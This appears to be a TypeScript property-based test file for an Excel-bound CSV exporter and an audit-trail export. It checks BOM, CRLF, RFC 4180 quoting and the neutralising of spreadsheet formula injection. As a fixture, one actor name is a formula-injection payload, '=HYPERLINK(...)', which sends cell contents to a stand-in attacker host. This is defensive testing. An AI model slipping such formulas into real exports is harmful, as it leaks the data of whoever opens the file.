import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Deps } from '#shared/adapters/deps.ts';
import { excelCsv } from '#shared/csv.ts';
import type { AuditEvent } from '#shared/domain/consultation.ts';
import { exportAudit } from '#shared/use-cases/audit.ts';

const BOM = [0xef, 0xbb, 0xbf];
/** What a spreadsheet reads as the start of a formula (ASCII, full-width, and the tab and CR before them). */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/**
 * Reads a file back: BOM dropped, records ended by CRLF only (`strict`), or by any line break
 * as a spreadsheet may take them. The two agree only if every record ends in CRLF and every
 * line break inside a cell is quoted.
 */
const read = (file: Buffer, ends: 'strict' | 'any' = 'strict') =>
  parse(file, { bom: true, record_delimiter: ends === 'strict' ? '\r\n' : ['\r\n', '\n', '\r'], relax_column_count: false }) as string[][];

/** Cells drawn from all of Unicode, with the characters that matter to CSV and to spreadsheets drawn often. */
const cell = fc.string({
  unit: fc.oneof(fc.constantFrom(...FORMULA_STARTS, '"', ',', '\n', '\r\n', "'", ' ', '議', '𠮷'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })),
  maxLength: 12,
});
const rows = fc.integer({ min: 1, max: 6 }).chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 }));

const neutralised = (value: string) => (FORMULA_STARTS.some((c) => value.startsWith(c)) ? `'${value}` : value);

describe('Excel-bound CSV', () => {
  it('reads back every cell as written, with a formula start kept as text by a leading quote', () => {
    fc.assert(
      fc.property(rows, (written) => {
        const file = excelCsv(written);
        expect([...file.subarray(0, 3)]).toEqual(BOM);
        expect(file.toString('utf8').endsWith('\r\n')).toBe(true);
        const back = read(file);
        // A record of one empty cell is an empty line, which a reader may take as no record at all.
        const expected = written.filter((r) => !(r.length === 1 && r[0] === '')).map((r) => r.map(neutralised));
        expect(back.filter((r) => !(r.length === 1 && r[0] === ''))).toEqual(expected);
        expect(read(file, 'any')).toEqual(back);
        for (const value of back.flat()) expect(FORMULA_STARTS.some((c) => value.startsWith(c))).toBe(false);
      }),
    );
  });

  it('quotes as RFC 4180 does, and only where it must', () => {
    const file = excelCsv([
      ['a', 'b,c', 'say "hi"', 'two\nlines', ''],
      ['=1+2', '-3', '@SUM(A1)', '＝HYPERLINK("http://x")', "'already"],
    ]);
    expect(file.subarray(3).toString('utf8')).toBe('a,"b,c","say ""hi""","two\nlines",\r\n' + `'=1+2,'-3,'@SUM(A1),"'＝HYPERLINK(""http://x"")",'already\r\n`);
  });

  it('exports the audit trail as an Excel-bound file, an actor’s typed name neutralised', async () => {
    const trail: AuditEvent[] = [
      {
        at: '2026-01-05T01:02:03.000Z',
        eventId: 'e1',
        actor: { userId: 'u', name: '=HYPERLINK("http://evil.example/?"&A1)', role: 'department' },
        action: '提出',
        detail: '件名,「公金」\n2行目',
        sourceIp: '127.0.0.1',
      },
      { at: '2026-01-05T01:02:04.000Z', eventId: 'e2', actor: { userId: 'workflow', name: 'ワークフロー', role: 'system' }, action: '状態:受付審査中' },
    ];
    const consultation = { councilId: 'c', number: { fiscalYear: 2026, n: 7 }, form: { title: '公金収納' }, submittedAt: '2026-01-05T00:00:00.000Z' };
    const deps = { consultations: { get: async () => consultation, auditTrail: async () => trail }, clock: { now: () => new Date() } } as unknown as Pick<
      Deps,
      'consultations' | 'clock'
    >;
    const { csv: file, fileName } = await exportAudit(
      deps,
      { userId: 's', name: '山下 潤', role: 'secretariat', councilId: 'c', departmentId: undefined },
      { councilId: 'c', consultationId: 'k' },
    );
    expect(fileName).toMatch(/^操作記録_.*7.*\.csv$/);
    expect([...file.subarray(0, 3)]).toEqual(BOM);
    expect(read(file)).toEqual([
      ['日時(日本時間)', '操作した人', '区分', '操作', '内容', '接続元'],
      ['2026-01-05 10:02:03', `'=HYPERLINK("http://evil.example/?"&A1)`, '所管課', '提出', '件名,「公金」\n2行目', '127.0.0.1'],
      ['2026-01-05 10:02:04', 'ワークフロー', 'システム', '状態:受付審査中', '', ''],
    ]);
  });
});
